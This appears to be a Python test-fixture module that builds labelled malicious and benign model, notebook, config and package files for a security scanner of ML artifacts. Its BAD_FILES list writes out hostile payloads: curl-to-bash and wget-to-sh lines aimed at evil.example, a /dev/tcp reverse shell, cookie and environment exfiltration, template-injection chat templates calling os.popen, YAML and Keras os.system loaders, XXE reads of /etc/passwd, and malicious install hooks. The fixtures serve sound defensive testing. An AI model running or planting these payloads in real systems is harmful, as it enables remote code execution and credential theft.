"""Builders of models, notebooks, configurations and packages for the tests, good and bad ones; none is ever loaded."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import struct

from artifact_samples import BAD, GOOD, zipped


def safetensors(header, data=b"", length=None):
    h = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(h) if length is None else length) + h + data


def gguf_text(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(kv=(), tensors=(), data=b"", version=3, nt=None, nk=None):
    output = b"GGUF" + struct.pack("<IQQ", version, len(tensors) if nt is None else nt, len(kv) if nk is None else nk)
    for k, t, v in kv:
        output += gguf_text(k) + struct.pack("<I", t) + v
    for n, dims, ty, off in tensors:
        output += (
            gguf_text(n)
            + struct.pack("<I", len(dims))
            + b"".join(struct.pack("<Q", d) for d in dims)
            + struct.pack("<IQ", ty, off)
        )
    output += b"\0" * (-len(output) % 32)
    return output + data


def skops_operator(function, name):
    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(name)}
    given = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [text]}
    node = {"__class__": function, "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": given}
    return zipped(("schema.json", json.dumps(node).encode()))


def notebook(*cells, **kw):
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {"kernelspec": {"language": "python", "name": "python3"}},
            "cells": list(cells),
            **kw,
        }
    ).encode()


def cell(src, outputs=(), **meta):
    return {
        "cell_type": "code",
        "source": src.splitlines(True),
        "metadata": meta,
        "outputs": list(outputs),
        "execution_count": None,
    }


def output(mime, v):
    return {"output_type": "display_data", "data": {mime: v}, "metadata": {}}


def varint(n):
    b = b""
    while True:
        c = n & 127
        n >>= 7
        b += bytes([c | (128 if n else 0)])
        if not n:
            return b


def field(n, v):
    if isinstance(v, int):
        return varint(n << 3) + varint(v)
    if isinstance(v, str):
        v = v.encode()
    return varint(n << 3 | 2) + varint(len(v)) + v


def onnx_model(node=b"", init=b"", extra=b""):
    g = (
        field(1, field(1, "x") + field(2, "y") + field(4, "Relu") + node)
        + init
        + field(2, "g")
        + field(11, field(1, "x"))
        + field(12, field(1, "y"))
    )
    return field(1, 8) + field(2, "pytorch") + field(7, g) + field(8, field(1, "") + field(2, 17)) + extra


def saved_model(op):
    n = field(1, field(1, "n1") + field(2, op) + field(3, "a"))
    return field(1, 1) + field(2, field(1, field(4, "serve")) + field(2, n + field(4, field(1, 100))))


LAMBDA = {
    "class_name": "Lambda",
    "module": "keras.layers",
    "config": {
        "name": "l",
        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None, "closure": None}},
    },
    "registered_name": None,
}


def sequential(*layers):
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": list(layers)},
        "registered_name": None,
        "build_config": {},
    }


DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"units": 3, "activation": "relu"},
    "registered_name": None,
}


def hdf5(fn):
    import h5py

    b = io.BytesIO()
    with h5py.File(b, "w") as x:
        fn(x)
    return b.getvalue()


def far_link(x):
    import h5py

    x["a"] = h5py.ExternalLink("/etc/passwd", "/x")


def near_link(x):
    import h5py

    x["a"] = h5py.ExternalLink("other.h5", "/x")


def keras_file(x):
    x.create_dataset("model_weights/d/kernel", data=[[1.0, 2.0]])
    x.attrs["model_config"] = json.dumps(sequential(DENSE))
    x.attrs["keras_version"] = "3.1"


def lambda_file(x):
    x.attrs["model_config"] = json.dumps(
        {
            "class_name": "Sequential",
            "config": {
                "layers": [
                    {
                        "class_name": "Lambda",
                        "config": {"function": ["4wEAAAAAAA==", None, None], "function_type": "lambda"},
                    }
                ]
            },
        }
    )


def pickle_data(x):
    import numpy as np

    x.create_dataset("o", data=np.frombuffer(BAD, dtype="u1"))


def pickle_attribute(x):
    import numpy as np

    x.attrs["o"] = np.void(BAD)


def parquet(cols):
    import pyarrow as pa
    import pyarrow.parquet as q

    b = io.BytesIO()
    q.write_table(pa.table(cols), b)
    return b.getvalue()


TENSORS = {
    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
    "b": {"dtype": "F32", "shape": [1], "data_offsets": [8, 12]},
}
CHAT = "{% for message in messages %}{% if message['role'] == 'user' %}{{ '<|user|>\n' + message['content'] | trim }}{% else %}{{ raise_exception('no') }}{% endif %}{% set ns = namespace(x=1) %}{% set ns.x = 2 %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}"  # noqa: E501


def wheel(files, tamper=None, leave=None):
    rec = ""
    for n, b in files.items():
        if n == leave:
            continue
        rec += f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b'=').decode()},{len(b)}\n"
    rec += "x-1.dist-info/RECORD,,\n"
    return zipped(
        *[(n, (b + b" " if n == tamper else b)) for n, b in files.items()], ("x-1.dist-info/RECORD", rec.encode())
    )


WHEEL = {
    "x/__init__.py": b"__version__ = '1'\nimport os\nimport json\n\ndef f(a):\n    return os.path.join(a, 'b')\n",
    "x-1.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: hatchling\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    "x-1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: x\nVersion: 1\n",
}

# name, content, and what is expected: M malicious, ? anything but safe
BAD_FILES = [
    ("nb_curl.ipynb", notebook(cell("!curl -s http://evil.example/x.sh | bash")), "M"),
    ("nb_bash.ipynb", notebook(cell("%%bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1")), "M"),
    ("nb_hidden.ipynb", notebook(cell("!touch /tmp/canary", jupyter={"source_hidden": True})), "?"),
    ("nb_touch.ipynb", notebook(cell("!touch /tmp/canary")), "?"),
    ("nb_os.ipynb", notebook(cell("import os\nos.system('id > /tmp/x')")), "?"),
    ("nb_ex.ipynb", notebook(cell("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))")), "M"),
    ("nb_gi.ipynb", notebook(cell("get_ipython().system('wget http://x/y -O- | sh')")), "M"),
    ("nb_far.ipynb", notebook(cell("x = 1" + " " * 300 + "; import os; os.system('id')")), "M"),
    (
        "nb_js.ipynb",
        notebook(cell("1", [output("application/javascript", "Jupyter.notebook.kernel.execute('import os')")])),
        "M",
    ),
    ("nb_html.ipynb", notebook(cell("1", [output("text/html", ["<img src=x onerror=alert(1)>"])])), "?"),
    (
        "nb_script.ipynb",
        notebook(
            cell("1", [output("text/html", "<script>fetch('https://evil.example/?c='+document.cookie)</script>")])
        ),
        "M",
    ),
    ("nb_md.ipynb", notebook({"cell_type": "markdown", "source": "<script>alert(1)</script>", "metadata": {}}), "?"),
    ("nb_env.ipynb", notebook(cell("import os,requests\nrequests.post('http://x',data=dict(os.environ))")), "M"),
    ("nb_pip.ipynb", notebook(cell("!pip install --index-url http://evil.example/simple foo")), "?"),
    ("nb_enc.ipynb", notebook(cell("1", [output("text/plain", "x = " + base64.b64encode(BAD).decode())])), "M"),
    (
        "nb_chr.ipynb",
        notebook(
            cell(
                "exec(''.join(chr(x) for x in [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]))"  # noqa: E501
            )
        ),
        "M",
    ),
    ("config.json", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}).encode(), "?"),
    ("config2.json", json.dumps({"auto_map": {"AutoModel": "evil/repo--modeling_x.X"}}).encode(), "?"),
    (
        "tokenizer_config.json",
        json.dumps({"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}).encode(),
        "M",
    ),
    (
        "adapter_config.json",
        json.dumps(
            {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}
        ).encode(),
        "M",
    ),
    (
        "handler.py",
        b"import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('touch /tmp/canary')\n    def __call__(self, data):\n        return []\n",  # noqa: E501
        "M",
    ),
    (
        "modeling.py",
        b"import os\nfrom transformers import PreTrainedModel\nos.system('echo pwned > /tmp/canary')\nclass X(PreTrainedModel):\n    pass\n",  # noqa: E501
        "M",
    ),
    (
        "st_over.safetensors",
        safetensors(
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
            },
            b"\0" * 12,
        ),
        "?",
    ),
    (
        "st_hole.safetensors",
        safetensors(
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
            },
            b"\0" * 24,
        ),
        "?",
    ),
    ("st_trail.safetensors", safetensors(TENSORS, b"\0" * 12 + BAD), "M"),
    ("st_len.safetensors", safetensors(TENSORS, b"\0" * 12, length=1 << 60), "?"),
    ("st_oor.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 80]}}, b"\0" * 8), "?"),
    (
        "st_dup.safetensors",
        safetensors(
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}',
            b"\0" * 8,
        ),
        "?",
    ),
    (
        "st_dtype.safetensors",
        safetensors({"a": {"dtype": "F64", "shape": [2], "data_offsets": [0, 8]}}, b"\0" * 8),
        "?",
    ),
    (
        "st_unk.safetensors",
        safetensors({"a": {"dtype": "PICKLE", "shape": [2], "data_offsets": [0, 8]}}, b"\0" * 8),
        "?",
    ),
    (
        "g_tpl.gguf",
        gguf([("tokenizer.chat_template", 8, gguf_text("{{ cycler.__init__.__globals__.os.popen('id').read() }}"))]),
        "M",
    ),
    ("g_cnt.gguf", gguf(nt=1 << 62), "?"),
    ("g_kv.gguf", gguf(nk=1 << 63), "?"),
    ("g_str.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", (1 << 64) - 1) + b"x" * 64, "?"),
    ("g_arr.gguf", gguf([("a", 9, struct.pack("<IQ", 4, 1 << 62))]), "?"),
    ("g_off.gguf", gguf(tensors=[("t", [32], 0, 1 << 40)], data=b"\0" * 128), "?"),
    ("g_side.gguf", gguf(tensors=[("t", [32, 0], 0, 0)], data=b"\0" * 128), "?"),
    ("g_name.gguf", gguf(tensors=[("t" * 64, [32], 0, 0)], data=b"\0" * 128), "?"),
    ("g_noname.gguf", gguf(tensors=[("", [32], 0, 0)], data=b"\0" * 128), "?"),
    ("g_nokey.gguf", gguf([("", 4, struct.pack("<I", 1))]), "?"),
    ("g_dim.gguf", gguf(tensors=[("t", [1 << 40, 1 << 40], 0, 0)], data=b"\0" * 128), "?"),
    (
        "k.keras",
        zipped(("config.json", json.dumps(sequential(LAMBDA)).encode()), ("metadata.json", b'{"keras_version":"3.0"}')),
        "M",
    ),
    (
        "kact.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential(
                        {
                            "module": "keras.layers",
                            "class_name": "Dense",
                            "config": {
                                "activation": {"class_name": "__lambda__", "config": {"code": "4wEA", "closure": None}}
                            },
                        }
                    )
                ).encode(),
            )
        ),
        "M",
    ),
    (
        "kmod.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential(
                        {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
                    )
                ).encode(),
            )
        ),
        "M",
    ),
    (
        "kget.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential({"module": "keras.utils", "class_name": "function", "config": "get_file"})
                ).encode(),
            )
        ),
        "M",
    ),
    (
        "ktf.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/m"}})
                ).encode(),
            )
        ),
        "M",
    ),
    ("ext.h5", hdf5(far_link), "?"),
    ("ext2.h5", hdf5(near_link), "?"),
    ("bad.h5", hdf5(lambda_file), "M"),
    ("pick.h5", hdf5(pickle_data), "M"),
    ("pick5a.h5", hdf5(pickle_attribute), "M"),
    ("saved_model.pb", saved_model("WriteFile"), "M"),
    ("sm2.pb", saved_model("PyFunc"), "M"),
    (
        "x.onnx",
        onnx_model(
            init=field(5, field(8, "w") + field(13, field(1, "location") + field(2, "../../etc/passwd")) + field(14, 1))
        ),
        "?",
    ),
    ("y.onnx", onnx_model(node=field(7, "evil.domain")), "?"),
    ("a.yaml", b"x: !!python/object/apply:os.system ['id']\n", "M"),
    ("b.yaml", b"model:\n  _target_: os.system\n  command: id\n", "M"),
    ("b.json", b'{"_target_": "builtins.eval", "_args_": ["1"]}', "M"),
    (
        "c.yaml",
        b"channels:\n  - http://evil.example/conda\ndependencies:\n  - python\n  - pip:\n    - --extra-index-url http://evil.example/simple\n    - foo\n",  # noqa: E501
        "?",
    ),
    (
        "schema.json",
        json.dumps({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {}}).encode(),
        "M",
    ),
    (
        "p.skops",
        zipped(
            (
                "schema.json",
                json.dumps(
                    {
                        "__class__": "partial",
                        "__module__": "functools",
                        "__loader__": "ReduceNode",
                        "content": {
                            "func": {
                                "__class__": "system",
                                "__module__": "posix",
                                "__loader__": "FunctionNode",
                                "content": "x",
                            }
                        },
                    }
                ).encode(),
            )
        ),
        "M",
    ),
    ("methodcaller.skops", skops_operator("methodcaller", "system"), "M"),
    ("attrgetter.skops", skops_operator("attrgetter", "__class__.mro"), "M"),
    ("d.json", json.dumps({"weights": base64.b64encode(BAD).decode()}).encode(), "M"),
    (
        "m.pmml",
        b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&x;"/></PMML>',  # noqa: E501
        "M",
    ),
    (
        "inc.xml",
        b'<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>',  # noqa: E501
        "M",
    ),
    ("Dockerfile", b"FROM python:3.11\nRUN curl -s http://evil.example/i.sh | bash\n", "M"),
    ("Dockerfile.b", b"FROM python:3.11\nRUN pip install --index-url http://10.0.0.1/simple x\n", "?"),
    ("post-link.sh", b"#!/bin/bash\ncurl http://evil.example/x | sh\n", "M"),
    ("setup.py", b"import os\nfrom setuptools import setup\nos.system('touch /tmp/canary')\nsetup(name='x')\n", "M"),
    (
        "setup2.py",
        b"from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import subprocess\n        subprocess.Popen(['touch','/tmp/x'])\n        super().run()\nsetup(name='x', cmdclass={'install': I})\n",  # noqa: E501
        "M",
    ),
    ("evil.pth", b"import os; os.system('touch /tmp/x')\n", "M"),
    (
        "w_init.whl",
        wheel({**WHEEL, "x/__init__.py": b"import urllib.request\nurllib.request.urlopen('http://127.0.0.1/x')\n"}),
        "M",
    ),
    ("w_pth.whl", wheel({**WHEEL, "x.pth": b"import x.boot\n"}), "?"),
    ("w_rec.whl", wheel(WHEEL, tamper="x/__init__.py"), "?"),
    ("w_rec2.whl", wheel(WHEEL, leave="x/__init__.py"), "?"),
    ("d.csv", b"a,b\n1,=cmd|'/c calc'!A0\n", "M"),
    ("d2.csv", b"a,b\n1," + base64.b64encode(BAD) + b"\n", "M"),
    ("p.parquet", parquet({"a": [BAD, GOOD]}), "M"),
    ("p2.parquet", parquet({"a": [base64.b64encode(BAD).decode()]}), "M"),
    ("d.jsonl", b'{"a":1}\n{"b":"' + base64.b64encode(BAD) + b'"}\n', "M"),
    (
        "loading.py",
        b"import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        os.system('curl http://evil/x|sh')\n        return []\n",  # noqa: E501
        "M",
    ),
    ("model.safetensors", BAD, "M"),
    ("weights.json", BAD, "M"),
    ("model.png", b"\x7fELF\x02\x01\x01" + b"\0" * 100, "M"),
    ("tokenizer.jinja", b"{% for m in messages %}{{ m.content.__class__ }}{% endfor %}", "M"),
]
GOOD_FILES = [
    (
        "nb.ipynb",
        notebook(
            cell("!pip install -q transformers datasets"),
            cell(
                "%matplotlib inline\nimport numpy as np\nimport pandas as pd\ndf = pd.read_csv('https://x/y.csv')\ndf.head()"
            ),
            cell("!nvidia-smi"),
            cell("!wget https://example.com/data.zip\n!unzip -q data.zip"),
            cell("import subprocess\nprint(subprocess.check_output(['ls']))"),
            cell("!git clone https://github.com/a/b && cd b && pip install -e ."),
            cell(
                "import requests\nr = requests.get('https://api.x/y')\nr.json()",
                [
                    output("text/html", "<div><table border=1><tr><td>1</td></tr></table></div>"),
                    output("image/png", base64.b64encode(b"\x89PNG\r\n\x1a\nxxxx").decode()),
                ],
            ),
            {"cell_type": "markdown", "source": "# Title\n<img src='a.png'>", "metadata": {}},
            cell("?np.array\nx = !ls\n%%time"),
            cell("%%bash\nls -la\necho hi"),
            cell(
                "%time f(x)\n%run train.py\nimport os\nos.environ['CUDA_VISIBLE_DEVICES']='0'\nos.makedirs('out', exist_ok=True)\nos.system('pip install foo')"  # noqa: E501
            ),
        ),
        "S",
    ),
    (
        "nb_plotly.ipynb",
        notebook(
            cell(
                "1",
                [
                    output(
                        "text/html",
                        "<div id='x'></div><script type='text/javascript'>window.PlotlyConfig = {MathJaxConfig: 'local'}; require(['plotly'], function(Plotly){ Plotly.newPlot('x', []) })</script>",  # noqa: E501
                    )
                ],
            )
        ),
        "S",
    ),
    (
        "nb_bokeh.ipynb",
        notebook(cell("1", [output("application/javascript", "(function(root){ root.Bokeh = 1; })(window);")])),
        "S",
    ),
    (
        "nb_colab.ipynb",
        notebook(
            cell(
                "1",
                [
                    output(
                        "text/html",
                        "<div id=\"df-1\"><style>.colab-df-container{}</style><button class=\"colab-df-convert\" onclick=\"convertToInteractive('df-1')\">x</button><script>const buttonEl=document.querySelector('#df-1'); async function convertToInteractive(key){const dataTable = await google.colab.kernel.invokeFunction('convertToInteractive',[key],{});}</script></div>",  # noqa: E501
                    )
                ],
            )
        ),
        "S",
    ),
    (
        "config.json",
        json.dumps(
            {
                "architectures": ["LlamaForCausalLM"],
                "model_type": "llama",
                "hidden_size": 4096,
                "torch_dtype": "float16",
                "_name_or_path": "meta/llama",
            }
        ).encode(),
        "S",
    ),
    (
        "tokenizer_config.json",
        json.dumps({"chat_template": CHAT, "bos_token": "<s>", "tokenizer_class": "LlamaTokenizer"}).encode(),
        "S",
    ),
    (
        "adapter_config.json",
        json.dumps(
            {
                "peft_type": "LORA",
                "base_model_name_or_path": "a/b",
                "auto_mapping": None,
                "r": 8,
                "target_modules": ["q_proj"],
                "megatron_core": "megatron.core",
            }
        ).encode(),
        "S",
    ),
    ("generation_config.json", b'{"do_sample": true, "eos_token_id": 2}', "S"),
    (
        "model.safetensors.index.json",
        json.dumps({"metadata": {"total_size": 12}, "weight_map": {"a": "m-1.safetensors"}}).encode(),
        "S",
    ),
    (
        "tokenizer.json",
        json.dumps(
            {
                "version": "1.0",
                "model": {"type": "BPE", "vocab": {"import": 1, "os.system(": 2, "__class__": 3, "gAJ": 4}},
            }
        ).encode(),
        "S",
    ),
    (
        "modules.json",
        json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]).encode(),
        "S",
    ),
    (
        "model_index.json",
        json.dumps(
            {
                "_class_name": "StableDiffusionPipeline",
                "_diffusers_version": "0.1",
                "vae": ["diffusers", "AutoencoderKL"],
                "text_encoder": ["transformers", "CLIPTextModel"],
                "safety_checker": [None, None],
            }
        ).encode(),
        "S",
    ),
    ("ok.safetensors", safetensors(TENSORS, b"\0" * 12), "S"),
    ("ok2.safetensors", safetensors({"__metadata__": {"format": "pt"}, **TENSORS}, b"\1" * 12), "S"),
    ("ok3.safetensors", safetensors(json.dumps(TENSORS).encode().ljust(256), b"\1" * 12), "S"),
    (
        "ok.gguf",
        gguf(
            [
                ("general.architecture", 8, gguf_text("llama")),
                ("general.alignment", 4, struct.pack("<I", 32)),
                ("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 2) + gguf_text("a") + gguf_text("b")),
                ("tokenizer.chat_template", 8, gguf_text(CHAT)),
            ],
            [("t", [32], 0, 0), ("u", [32], 8, 128)],
            b"\0" * (128 + 64),
        ),
        "S",
    ),
    (
        "ok.keras",
        zipped(
            ("metadata.json", b'{"keras_version":"3.0","date_saved":"x"}'),
            ("config.json", json.dumps(sequential(DENSE)).encode()),
            ("model.weights.h5", hdf5(keras_file)),
        ),
        "S",
    ),
    ("good.h5", hdf5(keras_file), "S"),
    ("saved_model.pb", saved_model("MatMul"), "S"),
    ("ok.onnx", onnx_model(), "S"),
    (
        "okext.onnx",
        onnx_model(
            init=field(
                5,
                field(1, 4) + field(8, "w") + field(13, field(1, "location") + field(2, "weights.bin")) + field(14, 1),
            )
        ),
        "S",
    ),
    ("msdom.onnx", onnx_model(node=field(7, "com.microsoft")), "S"),
    (
        "hydra.yaml",
        b"defaults:\n  - _self_\nmodel:\n  _target_: torch.nn.Linear\n  in_features: 3\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  callbacks:\n    - _target_: my.pkg.Callback\ndata:\n  _target_: torchvision.datasets.CIFAR10\n",  # noqa: E501
        "S",
    ),
    (
        "environment.yml",
        b"name: x\nchannels:\n  - conda-forge\n  - pytorch\n  - defaults\ndependencies:\n  - python=3.11\n  - pip:\n    - torch\n    - git+https://github.com/a/b\n",  # noqa: E501
        "S",
    ),
    (
        "README.md",
        b"---\nlicense: mit\n---\n# Model\n\n```python\nimport os\nos.system('ls')\n```\n\ncurl -fsSL https://x.sh | sh\n",  # noqa: E501
        "S",
    ),
    ("LICENSE", b"Apache License\nVersion 2.0, January 2004\n", "S"),
    (
        "requirements.txt",
        b"certifi==2024.1\nclick\nidna>=3\ntorch==2.1 ; python_version > '3.8'\n--extra-index-url https://download.pytorch.org/whl/cu118\n",
        "S",
    ),
    (".gitattributes", b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n", "S"),
    ("vocab.txt", b"[PAD]\n[UNK]\nclass\nimport\nthe\n", "S"),
    ("merges.txt", b"#version: 0.2\n\xc4\xa0 t\nh e\n", "S"),
    ("CITATION.cff", b"cff-version: 1.2.0\nmessage: x\n", "S"),
    (
        "Dockerfile",
        b'# syntax=docker/dockerfile:1\nFROM nvidia/cuda:12.1-base AS build\nARG X=1\nENV DEBIAN_FRONTEND=noninteractive PATH=/opt/x:$PATH\nRUN apt-get update && apt-get install -y --no-install-recommends git curl && rm -rf /var/lib/apt/lists/*\nRUN curl -fsSL https://deb.nodesource.com/setup_18.x | bash - \\\n && apt-get install -y nodejs\nRUN pip install --no-cache-dir -r requirements.txt\nRUN wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/miniconda.sh && bash /tmp/miniconda.sh -b -p /opt/conda && rm /tmp/miniconda.sh\nCOPY . /app\nWORKDIR /app\nUSER app\nHEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1\nCMD ["python", "app.py"]\nENTRYPOINT ["/bin/sh", "-c", "exec python -m app"]\n',  # noqa: E501
        "S",
    ),
    (
        "setup.py",
        b"import os, re, subprocess, sys\nfrom pathlib import Path\nfrom setuptools import setup, find_packages, Extension\nfrom setuptools.command.build_ext import build_ext\nhere = os.path.abspath(os.path.dirname(__file__))\nabout = {}\nwith open(os.path.join(here, 'x', '__version__.py')) as f:\n    exec(f.read(), about)\ntry:\n    sha = subprocess.check_output(['git', 'rev-parse', 'HEAD'], cwd=here).decode('ascii').strip()\nexcept Exception:\n    sha = 'Unknown'\nclass B(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '--version'])\n        super().run()\n    def build_extension(self, ext):\n        subprocess.check_call(['cmake', ext.sourcedir], cwd=self.build_temp)\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n    sys.exit()\nsetup(name='x', version=about['v'], long_description=Path('README.md').read_text(), packages=find_packages(), cmdclass={'build_ext': B})\n",  # noqa: E501
        "S",
    ),
    (
        "handler.py",
        b"from typing import Any, Dict, List\nimport torch\nfrom transformers import AutoModel\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.model = AutoModel.from_pretrained(path)\n    def __call__(self, data):\n        with open('/tmp/log.txt','r') as f: pass\n        return self.model(**data)\n",  # noqa: E501
        "S",
    ),
    ("ok.whl", wheel(WHEEL), "S"),
    ("d.csv", b"a,b\n1,-2\n=SUM(A1),@x\n", "S"),
    ("ok.parquet", parquet({"a": ["x", "import os"], "b": [b"\x80\x03K\x01.", b"c"], "n": [1, 2]}), "S"),
    ("d.jsonl", b'{"text":"hello"}\n{"text":"import os is how it starts"}\n', "S"),
    (
        "ok.pmml",
        b'<?xml version="1.0" encoding="UTF-8"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary/></PMML>',  # noqa: E501
        "S",
    ),
    (
        "loading.py",
        b"import datasets, json, os\n_URL = 'https://x/y.zip'\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        p = dl.download_and_extract(_URL)\n        return []\n    def _generate_examples(self, path):\n        with open(path) as f:\n            for i, l in enumerate(f): yield i, json.loads(l)\n",  # noqa: E501
        "S",
    ),
    ("easy-install.pth", b"/home/x/src\nimport _virtualenv\n", "S"),
    (
        "train.py",
        b"import argparse, os\nimport torch\ndef main():\n    os.system('nvidia-smi')\n    m = torch.load('x.pt')\nif __name__ == '__main__':\n    main()\n",  # noqa: E501
        "S",
    ),
    (
        "schema.json",
        json.dumps(
            {
                "__class__": "LogisticRegression",
                "__module__": "sklearn.linear_model._logistic",
                "__loader__": "ObjectNode",
                "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}},
            }
        ).encode(),
        "S",
    ),
    (
        "run.sh",
        b"#!/bin/bash\nset -e\nexport A=1\npython train.py --lr 1 | tee log.txt\nif [ -f x ]; then rm -rf build/; fi\n",
        "S",
    ),
    ("train.log", b"epoch 1 loss 0.5\nepoch 2 loss 0.4\n", "S"),
    ("labels.txt", b"cat\ndog\n", "S"),
    ("index.html", b"<!DOCTYPE html><html><body>hi</body></html>", "S"),
    (
        "flow.yaml",
        b"on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -e . && pytest\n",  # noqa: E501
        "S",
    ),
]
